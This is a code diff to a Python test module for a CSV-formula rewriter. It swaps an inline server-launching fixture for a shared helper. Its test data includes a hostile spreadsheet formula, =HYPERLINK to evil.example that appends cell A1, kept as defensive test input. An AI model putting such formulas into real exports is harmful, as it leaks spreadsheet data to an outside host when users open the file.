@@ -6,8 +6,6 @@
 
 import csv
 import io
-import subprocess
-import sys
 from datetime import UTC, datetime
 
 import httpx
@@ -20,6 +18,7 @@ from bot.web.plugins.csv_formulas import Rewriter
 from storage import open_archive
 from storage.items import store
 from tests.analyst_archive import _item, build
+from tests.conftest import serving
 
 HOSTILE = {
     "h1": '=HYPERLINK("https://evil.example/?d="&A1,"Lazarus report")',
@@ -99,15 +98,8 @@ def test_rewriter_keeps_records_whole_across_any_chunking():
 
 @pytest.fixture(scope="module")
 def served(hostile_archive):
-    command = [sys.executable, "-m", "bot", "serve", "--port", "0", "--db", str(hostile_archive)]
-    proc = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
-    try:
-        line = proc.stdout.readline()
-        assert "read-only at http://127.0.0.1:" in line, (line, proc.stderr.read() if proc.poll() else "")
-        yield line.split(" at ")[1].strip().rstrip("/")
-    finally:
-        proc.terminate()
-        proc.wait(timeout=10)
+    with serving(hostile_archive) as (_proc, url):
+        yield url
 
 
 @pytest.mark.parametrize(
